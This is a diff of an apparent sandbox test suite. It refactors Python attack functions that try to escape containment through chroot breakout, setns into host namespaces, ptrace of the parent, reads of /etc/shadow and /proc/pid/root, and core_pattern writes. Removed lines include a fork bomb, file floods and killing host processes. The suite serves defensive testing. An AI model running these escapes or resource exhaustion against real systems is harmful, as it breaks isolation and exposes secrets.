@@ -1,77 +1,15 @@
-"""Hostile programs for the sandbox attack suite: each function is one attack, written as real
-Python (ctypes for raw syscalls, x86_64 numbers). The whole file runs inside the sandbox as
-``main.py`` with a footer ``P = {...}; ATTACKS[name](P)``; an attack that gets through prints a
-line starting ``ESCAPED:``, and every attack ends by printing ``ATTACK-DONE`` (so a sandbox that
-failed to start the program is not mistaken for one that stopped it).
-
-``P`` carries what the host prepared: its pid, secrets, listeners, paths (see sandbox_bait.py).
-"""
-
+"""Attacks on the sandbox itself: undoing its mounts and namespaces, reaching the parent's
+/proc, memory and namespaces, tracing, new namespaces, kernel interfaces (BPF, keyrings, module
+and kexec loading, the new mount API, io_uring, file handles), global sysctls, the cgroup,
+chroot games. Each prints ``ESCAPED: ...`` when it gets through (see attack_syscalls.py)."""
 import ctypes
 import errno
 import os
-import socket
 import struct
-import time
 
-libc = ctypes.CDLL(None, use_errno=True)
-libc.syscall.restype = ctypes.c_long
+from attack_syscalls import (CLONE_NEWNET, CLONE_NEWNS, CLONE_NEWUSER, MS_BIND, MS_REMOUNT, escaped, libc,
+                             mount_points, note, read, sc, tcp_try, try_umount_proc)
 
-# x86_64 syscall numbers
-NR = dict(ptrace=101, chroot=161, mount=165, umount2=166, init_module=175, delete_module=176,
-          kexec_load=246, add_key=248, keyctl=250, unshare=272, name_to_handle_at=303,
-          open_by_handle_at=304, setns=308, process_vm_readv=310, finit_module=313,
-          kexec_file_load=320, bpf=321, io_uring_setup=425, fsopen=430, clone=56)
-CLONE_NEWNS, CLONE_NEWUSER, CLONE_NEWNET = 0x20000, 0x10000000, 0x40000000
-MS_REMOUNT, MS_BIND, MNT_DETACH = 32, 4096, 2
-
-
-def _arg(a):
-    if a is None:
-        return ctypes.c_void_p(0)
-    if isinstance(a, bytes):
-        return ctypes.c_char_p(a)
-    if isinstance(a, int):
-        return ctypes.c_long(a)
-    return a  # already a ctypes object (pointer, byref)
-
-
-def sc(name, *args):
-    """Raw syscall: (return value, errno)."""
-    ctypes.set_errno(0)
-    ret = libc.syscall(ctypes.c_long(NR[name]), *map(_arg, args))
-    return ret, ctypes.get_errno()
-
-
-def escaped(what):
-    print("ESCAPED:", what, flush=True)
-
-
-def note(what, err=0):
-    print("stopped:" if err else "note:", what, errno.errorcode.get(err, err) if err else "", flush=True)
-
-
-def read(path, n=1 << 20, mode="rb"):
-    try:
-        with open(path, mode) as f:
-            return f.read(n)
-    except OSError:
-        return None
-
-
-def try_umount_proc():
-    ret, err = sc("umount2", b"/proc", MNT_DETACH)
-    if ret == 0:
-        escaped("umount2(/proc) succeeded")
-    return ret == 0
-
-
-def mount_points():
-    text = read("/proc/self/mountinfo", mode="r") or ""
-    return [line.split()[4] for line in text.splitlines()]
-
-
-# --- the attacks -------------------------------------------------------------------------
 
 def remount_root(P):
     for point in ["/"] + mount_points():
@@ -133,96 +71,9 @@ def setns_host(P):
                 escaped(f"setns into /proc/{pid}/ns/{ns}")
             else:
                 note(f"setns {ns}", err)
-    _tcp(P, "127.0.0.1")
+    tcp_try(P, "127.0.0.1")
     if read(P["tmp_secret_file"]):
         escaped("read the host /tmp after setns")
-
-
-def _tcp(P, host):
-    try:
-        s = socket.create_connection((host, P["tcp_port"]), timeout=1.0)
-        s.sendall(b"leak")
-        escaped(f"TCP connect to {host}:{P['tcp_port']}")
-        s.close()
-    except OSError as e:
-        note(f"connect {host}", e.errno or 1)
-
-
-def host_unix_socket(P):
-    for address in (P["unix_path"], "\0" + P["abstract_name"]):
-        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
-        try:
-            s.settimeout(1.0)
-            s.connect(address)
-            s.sendall(b"leak")
-            escaped(f"connected to unix socket {address!r}")
-        except OSError as e:
-            note(f"unix connect {address!r}", e.errno or 1)
-        finally:
-            s.close()
-
-
-def tcp_loopback(P):
-    _tcp(P, "127.0.0.1")
-    if P.get("host_ip"):
-        _tcp(P, P["host_ip"])
-
-
-def read_shadow(P):
-    data = read("/etc/shadow")
-    if data and b"root:" in data:
-        escaped("read /etc/shadow")
-
-
-def read_project(P):
-    if read(P["project_file"]):
-        escaped(f"read {P['project_file']}")
-    try:
-        escaped(f"listed the project folder: {os.listdir(P['project_dir'])[:5]}")
-    except OSError as e:
-        note("list project", e.errno)
-
-
-def read_host_tmp(P):
-    data = read(P["tmp_secret_file"])
-    if data and P["secret"].encode() in data:
-        escaped("read a file in the host's /tmp")
-    try:
-        if P["tmp_marker"] in os.listdir("/tmp"):
-            escaped("the host's /tmp is visible")
-    except OSError:
-        pass
-
-
-def inode_flood(P):
-    # Up to 178,000 files (what the review made in 2.5 s); it stops itself after 8 s so that a
-    # slow disk still lets it report. Past the work dir's inode quota is an escape.
-    n, start = 0, time.monotonic()
-    try:
-        while n < 178_000 and time.monotonic() - start < 8:
-            os.close(os.open(f"f{n}", os.O_CREAT | os.O_WRONLY, 0o600))
-            n += 1
-    except OSError as e:
-        note(f"after {n} files", e.errno)
-    print("files", n)
-    if n > P["inode_quota"]:
-        escaped(f"created {n} files, quota {P['inode_quota']}")
-
-
-def many_files_over_size(P):
-    total, chunk = 0, b"x" * (1 << 20)
-    for i in range(12):
-        try:
-            with open(f"big{i}", "wb") as f:
-                for _ in range(P["file_mb"]):
-                    f.write(chunk)
-                    total += len(chunk)
-        except OSError as e:
-            note(f"file {i}", e.errno)
-            break
-    print("bytes", total)
-    if total > P["quota_bytes"]:
-        escaped(f"wrote {total >> 20} MB, quota {P['quota_bytes'] >> 20} MB")
 
 
 def ptrace_parent(P):
@@ -294,82 +145,6 @@ def keyctl(P):
         note("add_key", err)
 
 
-def fork_bomb(P):
-    children = 0
-    try:
-        while children < 400:
-            if os.fork() == 0:
-                time.sleep(30)
-                os._exit(0)
-            children += 1
-    except OSError as e:
-        note(f"after {children} forks", e.errno)
-    if children > 2 * P["processes"]:
-        escaped(f"{children} processes at once")
-
-
-def write_outside(P):
-    for path in (P["host_file"], "/usr/tf-attack", "/etc/tf-attack", "/var/tmp/tf-attack",
-                 f"/tmp/{P['tmp_marker']}/written"):
-        try:
-            with open(path, "w") as f:
-                f.write("x")
-            note(f"wrote {path} (host checks it)")
-        except OSError as e:
-            note(f"write {path}", e.errno)
-
-
-def dev_shm(P):
-    data = read(f"/dev/shm/{P['shm_name']}")
-    if data and P["secret"].encode() in data:
-        escaped("read the host's /dev/shm")
-    try:
-        with open(f"/dev/shm/{P['shm_name']}-w", "w") as f:
-            f.write("x")
-    except OSError as e:
-        note("write /dev/shm", e.errno)
-    try:
-        from multiprocessing import shared_memory
-        shared_memory.SharedMemory(create=True, size=4096)  # left for the host check
-    except Exception as e:  # noqa: BLE001 - any failure stops this attack
-        note(f"shared_memory: {type(e).__name__}", 1)
-
-
-def kill_host(P):
-    for pid in (P["decoy_pid"], P["host_pid"]):
-        sig = 9 if pid == P["decoy_pid"] else 0  # signal 0: only asks whether it could
-        try:
-            os.kill(pid, sig)
-            escaped(f"signalled host pid {pid}")
-        except OSError as e:
-            note(f"kill {pid}", e.errno)
-    try:
-        os.kill(os.getppid(), 9)
-    except OSError as e:
-        note("kill parent", e.errno)
-
-
-def chroot_escape(P):
-    try:
-        os.mkdir("jail")
-        os.chroot("jail")
-        for _ in range(20):
-            os.chdir("..")
-        os.chroot(".")
-        note("chroot worked (escape checked below)")
-    except OSError as e:
-        note("chroot", e.errno)
-    if read(P["tmp_secret_file"]) or read("/etc/shadow"):
-        escaped("host files readable after chroot games")
-
-
-def proc_1_root(P):
-    for pid in (1, P["host_pid"], "self"):
-        for path in (P["tmp_secret_file"], "/etc/shadow", P["project_file"]):
-            if read(f"/proc/{pid}/root{path}"):
-                escaped(f"read /proc/{pid}/root{path}")
-
-
 def capabilities(P):
     status = dict(line.split(":\t", 1) for line in (read("/proc/self/status", mode="r") or "").splitlines()
                   if ":\t" in line)
@@ -429,16 +204,6 @@ def io_uring(P):
         note("io_uring_setup", err)
 
 
-def raw_block_device(P):
-    names = os.listdir("/sys/block") if os.path.isdir("/sys/block") else []
-    for dev in set(names) | {P["root_device"]}:
-        data = read(f"/dev/{dev}", 512)
-        if data:
-            escaped(f"read raw device /dev/{dev}")
-    if read("/dev/kmsg", 1):
-        escaped("read the kernel log")
-
-
 def proc_sys_write(P):
     path = "/proc/sys/kernel/core_pattern"
     value = read(path)
@@ -464,6 +229,26 @@ def cgroup_escape(P):
             note(f"cgroup {group}", e.errno)
 
 
+def chroot_escape(P):
+    try:
+        os.mkdir("jail")
+        os.chroot("jail")
+        for _ in range(20):
+            os.chdir("..")
+        os.chroot(".")
+        note("chroot worked (escape checked below)")
+    except OSError as e:
+        note("chroot", e.errno)
+    if read(P["tmp_secret_file"]) or read("/etc/shadow"):
+        escaped("host files readable after chroot games")
+
+
+def proc_1_root(P):
+    for pid in (1, P["host_pid"], "self"):
+        for path in (P["tmp_secret_file"], "/etc/shadow", P["project_file"]):
+            if read(f"/proc/{pid}/root{path}"):
+                escaped(f"read /proc/{pid}/root{path}")
+
+
 ATTACKS = {name: fn for name, fn in dict(globals()).items()
-           if callable(fn) and not name.startswith("_") and getattr(fn, "__module__", None) == __name__
-           and name not in ("sc", "escaped", "note", "read", "try_umount_proc", "mount_points")}
+           if callable(fn) and getattr(fn, "__module__", None) == __name__ and not name.startswith("_")}
